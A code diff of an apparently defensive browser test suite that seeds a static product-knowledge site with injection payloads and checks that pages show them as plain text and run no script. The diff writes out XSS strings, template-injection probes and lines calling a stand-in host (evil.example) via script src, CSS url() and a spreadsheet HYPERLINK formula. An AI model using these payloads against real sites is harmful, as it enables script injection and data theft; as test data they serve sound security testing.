@@ -2,15 +2,15 @@
 
 import base64
 import csv
-import datetime
 import io
 import itertools
 import json
 import shutil
 import subprocess
 import sys
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterator
 from pathlib import Path
+from types import ModuleType
 from typing import Any
 
 import pytest
@@ -20,37 +20,12 @@ from playwright.sync_api import expect
 from lidoff.record.identity import product_path
 
 pytestmark = pytest.mark.browser
-# no longer than the shortest field that takes any text
-PAYLOADS = (
-    "<script>window.ran=1</script>",
-    "</script><script>window.ran=1</script>",
-    "<img src=x onerror=window.ran=1>",
-    '"><svg onload=window.ran=1>',
-    "' onmouseover='window.ran=1",
-    '" autofocus onfocus="window.ran=1',
-    "javascript:window.ran=1",
-    "</title><base href=//evil.example>",
-    "</table></article><form action=//evil.example><input>",
-    "--><script>window.ran=1</script><!--",
-    "]]><script src=//evil.example/x.js></script>",
-    "</svg><style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    '<iframe srcdoc="<script>parent.ran=1</script>">',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
-    "x;background:url(//evil.example/x.png);color:red",
-    "{{ 7 * 7 }} {% raw %}{{ view }}{% endraw %}",
-    "`${window.ran=1}` #{7*7} <%= 7*7 %>",
-    r"\u003cscript\u003ewindow.ran=1\u003c/script\u003e",
-    "&lt;b&gt;escaped already&lt;/b&gt; &#60;b&#62; &amp;",
-    '=HYPERLINK("//evil.example/x","x")',
-)
-FREE = frozenset(
-    "name summary printed model manufacturer origin scheme number protocol note maker part_number silkscreen lines "
-    "points_for points_against by authenticity_signs device hottest_spot spot place network node alt caption credit what".split()
-)
-# fields of these names that take words of a vocabulary instead
-WORDS = (("windings", "name"), ("label", "place"), ("evidence", "by"))
+CORPUS = yaml.safe_load((Path(__file__).parents[1] / "hostile" / "payloads.yaml").read_text(encoding="utf-8"))
+# the reader refuses blanks at an end
+PAYLOADS = tuple(text for name in CORPUS if name != "refused_signs" for text in CORPUS[name] if text == text.strip())
+ALT, CAPTION, CREDIT = '"><svg onload=window.ran=1>', "' onmouseover='window.ran=1", '" autofocus onfocus="window.ran=1'
+# these name what lies beside them: a column of a log, another field
+KEPT = ("product.brand", "product.model", "columns.*", ".field")
 PRODUCTS = (("<img src=x onerror=window.ran=1>", '"><svg onload=window.ran=1>'), ('=HYPERLINK("//evil.example","x")', "{{7*7}}<b>"))
 PICTURE = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
 UNTIDY = """() => {
@@ -67,53 +42,35 @@ UNTIDY = """() => {
 }"""
 
 
-class _Dumper(yaml.SafeDumper):
-    def ignore_aliases(self, data: object) -> bool:
-        return True
+def hostile_record(original: dict, brand: str, model: str, start: int, hostile: ModuleType) -> dict:
+    """A copy of a demo record, by another name, with the payloads in turn in its fields, and a picture."""
+    texts = itertools.cycle(PAYLOADS[start:] + PAYLOADS[:start])
 
+    def choose(path: str, most: int) -> str | None:
+        return None if path.endswith(KEPT) else next(text for text in texts if len(text) <= most)
 
-_Dumper.add_representer(str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"'))
-
-
-def hostile(node: Any, texts: Iterator[str], path: tuple[str, ...] = ()) -> Any:
-    """The same record with a payload in every field that takes any text."""
-    if isinstance(node, dict):
-        return {key: hostile(value, texts, (*path, key)) for key, value in node.items()}
-    if isinstance(node, list):
-        return [hostile(value, texts, path) for value in node]
-    if isinstance(node, datetime.date):
-        return node.isoformat()
-    is_free = path and path[-1] in FREE and not any(path[-2:] == words for words in WORDS)
-    return next(texts) if is_free and isinstance(node, str) else node
-
-
-def hostile_record(original: dict, brand: str, model: str, texts: Iterator[str]) -> dict:
-    """A copy of a demo record, by another name, with payloads and a picture."""
-    record = hostile(original, texts)
+    record = hostile.placed(original, choose)
     record["product"] |= {"brand": brand, "model": model}
     record["corrections"] = [{"date": "2026-03-09", "what": text} for text in PAYLOADS]
-    credit = {"alt": PAYLOADS[3], "caption": PAYLOADS[4], "credit": PAYLOADS[5], "license": "CC0-1.0"}
+    credit = {"alt": ALT, "caption": CAPTION, "credit": CREDIT, "license": "CC0-1.0"}
     record["photos"] = [{"file": "photos/top.png", "kind": "photo"} | credit]
     for port in record["ports"]:
-        port |= {"printed_name": PAYLOADS[0], "other_protocols": list(PAYLOADS[:2])}
-        for offer in port.get("label", []):
-            if "protocol" in offer:
-                offer["protocol"] = PAYLOADS[0]
+        port |= {"other_protocols": list(PAYLOADS[:2])}
     return record
 
 
-def write(base: Path, record: dict, beside: Path) -> None:
+def write(base: Path, record: dict, beside: Path, hostile: ModuleType) -> None:
     """The record with its picture and with the logs that lie beside the original."""
     slug = product_path(record["product"]["brand"], record["product"]["model"])
     folder = base / "entries" / slug
     shutil.copytree(beside, folder, ignore=shutil.ignore_patterns("photos"))
     (folder / "photos").mkdir()
     (folder / "photos" / "top.png").write_bytes(PICTURE + slug.encode())  # no two entries have the same file
-    (folder / "record.yaml").write_text(yaml.dump(record, Dumper=_Dumper, width=1000, sort_keys=False), encoding="utf-8")
+    (folder / "record.yaml").write_text(hostile.as_yaml(record), encoding="utf-8")
 
 
 @pytest.fixture(scope="session")
-def hostile_site(built_once: Any, write_demo: Any, serve: Any) -> Iterator[Any]:
+def hostile_site(built_once: Any, write_demo: Any, serve: Any, hostile: ModuleType) -> Iterator[Any]:
     """A knowledge base of two products that hold nothing but payloads."""
 
     def write_base(base: Path) -> None:
@@ -122,10 +79,11 @@ def hostile_site(built_once: Any, write_demo: Any, serve: Any) -> Iterator[Any]:
         files = [file for file in demo.glob("*/*/record.yaml") if "status: published" in file.read_text(encoding="utf-8")]
         longest = max(sorted(files), key=lambda file: file.stat().st_size)
         original = yaml.load(longest.read_text(encoding="utf-8"), yaml.CSafeLoader)
-        for brand, model in PRODUCTS:
-            write(base, hostile_record(original, brand, model, itertools.cycle(PAYLOADS)), longest.parent)
+        for number, (brand, model) in enumerate(PRODUCTS):
+            start = number * len(PAYLOADS) // len(PRODUCTS)
+            write(base, hostile_record(original, brand, model, start, hostile), longest.parent, hostile)
         protocols = {"other_protocols": [{"name": text, "aliases": [], "note": text} for text in PAYLOADS[:2]]}
-        (entries / "other-protocols.yaml").write_text(yaml.dump(protocols, Dumper=_Dumper), encoding="utf-8")
+        (entries / "other-protocols.yaml").write_text(hostile.as_yaml(protocols), encoding="utf-8")
 
     with serve(built_once("hostile", write_base)) as site:
         yield site
@@ -142,10 +100,10 @@ def shown(page: Any) -> str:
 
 
 def test_every_payload_is_a_text_that_the_record_may_hold(hostile_site: Any) -> None:
-    assert len(hostile_site.records) == 2 and len(PAYLOADS) >= 20
+    assert len(hostile_site.records) == 2 and len(PAYLOADS) >= 150
     for record in hostile_site.records.values():
         text = json.dumps(record, ensure_ascii=False, default=str)
-        assert all(text.count(json.dumps(payload, ensure_ascii=False)) > 2 for payload in PAYLOADS)
+        assert [payload for payload in PAYLOADS if text.count(json.dumps(payload, ensure_ascii=False)) < 2] == []
 
 
 @pytest.mark.parametrize("number", [0, 1])
@@ -157,7 +115,23 @@ def test_product_page_shows_each_text_as_it_was_written(number: int, hostile_sit
     assert page.locator("h1").inner_text() == hostile_site.title(slug)
     assert page.locator("main").bounding_box()["height"] > 5000, "a payload hides the page"
     assert page.evaluate("document.images.length") == 1
-    assert page.locator("main img").get_attribute("alt") == PAYLOADS[3]
+    assert page.locator("main img").get_attribute("alt") == ALT
+
+
+@pytest.mark.long
+def test_no_page_at_all_runs_anything_without_a_policy_either(hostile_site: Any, visit: Any) -> None:
+    page = visit("", url=hostile_site.url, bypass_csp=True)
+    page.evaluate("() => { const one = document.createElement('script'); one.text = 'window.can = 1'; document.body.append(one); }")
+    assert page.evaluate("window.can") == 1, "the policy still holds"
+    kept = ("methods", "method", "fields", "vocabulary", "prose", "checks")
+    pages = [path for path in hostile_site.addresses if not any(path in hostile_site.of_kind(kind) for kind in kept)]
+    assert len(pages) > 60
+    for path in pages:
+        page.goto(hostile_site.url + path[1:])
+        page.wait_for_function(page.ready)
+        assert page.evaluate(UNTIDY) == [], path
+        assert page.evaluate("[window.ran, typeof ran]") == [None, "undefined"], path
+        assert page.url == hostile_site.url + path[1:]
 
 
 @pytest.mark.parametrize("width", [1280, 390])
